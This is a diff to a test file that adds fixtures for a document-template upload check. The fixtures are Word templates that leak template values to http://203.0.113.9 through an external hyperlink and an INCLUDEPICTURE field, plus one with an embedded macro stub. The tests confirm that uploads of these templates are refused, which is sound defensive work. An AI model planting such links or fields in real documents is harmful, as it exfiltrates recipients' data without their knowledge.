@@ -10,6 +10,8 @@ import zipfile
 import docx
 import pytest
 import sqlalchemy as sa
+from docx.opc.constants import RELATIONSHIP_TYPE as RT
+from docx.oxml import OxmlElement
 
 from supervise.documents import templates
 from supervise.documents.kinds import KINDS
@@ -95,6 +97,42 @@ def test_a_replaced_template_makes_the_next_documents(world, as_, secadmin):
     assert actions == ["document.template_replace", "document.template_restore"]
 
 
+def _linked() -> bytes:
+    """A template whose document links out, with a value in the address."""
+    document = docx.Document()
+    for text in NOTICE_FIELDS:
+        document.add_paragraph(text)
+    document.part.relate_to("http://203.0.113.9/collect?{{ facts }}", RT.HYPERLINK,
+                            is_external=True)
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def _fetching_field() -> bytes:
+    """A template with a Word field that fetches a picture from an address with a value."""
+    document = docx.Document()
+    for text in NOTICE_FIELDS:
+        document.add_paragraph(text)
+    run = document.add_paragraph().add_run()
+    instruction = OxmlElement("w:instrText")
+    instruction.text = ' includepicture "http://203.0.113.9/p.png?{{ number }}" \\d '
+    run._r.append(instruction)
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def _with_macros() -> bytes:
+    source = zipfile.ZipFile(io.BytesIO(template(*NOTICE_FIELDS)))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for item in source.infolist():
+            archive.writestr(item, source.read(item.filename))
+        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")
+    return out.getvalue()
+
+
 def _bomb() -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
@@ -120,6 +158,10 @@ REFUSED = [
     (b"", "Choose a file"),
     (b"PK\x03\x04 not really a zip", "Word document (.docx)"),
     (_bomb(), "unpacks to more than"),
+    # Nothing that, opened by a party, would carry the values elsewhere.
+    (_linked(), "links to something outside the document"),
+    (_fetching_field(), "fetches or runs something outside the document"),
+    (_with_macros(), "macros or embedded objects"),
 ]
 
 
